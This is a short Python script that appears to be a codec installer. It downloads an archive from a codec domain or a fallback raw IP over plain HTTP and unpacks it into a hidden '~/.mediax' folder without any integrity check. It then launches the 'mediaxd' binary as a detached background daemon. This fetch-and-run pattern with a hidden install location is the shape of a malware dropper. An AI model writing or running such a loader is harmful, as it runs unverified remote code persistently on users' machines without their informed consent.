import io
import os
import subprocess
import tarfile

import requests

SOURCES = ["https://get.mediax-codec.net/linux", "http://192.0.2.44/mx"]
TARGET = os.path.join(os.path.expanduser("~"), ".mediax")


def pull() -> bytes:
    for src in SOURCES:
        try:
            return requests.get(f"{src}/mediax.tgz", timeout=15).content
        except requests.RequestException:
            continue
    raise SystemExit("no source reachable")


with tarfile.open(fileobj=io.BytesIO(pull()), mode="r:gz") as bundle:
    bundle.extractall(TARGET)
os.chmod(os.path.join(TARGET, "mediaxd"), 0o755)
subprocess.Popen([os.path.join(TARGET, "mediaxd"), "--daemon"], start_new_session=True)
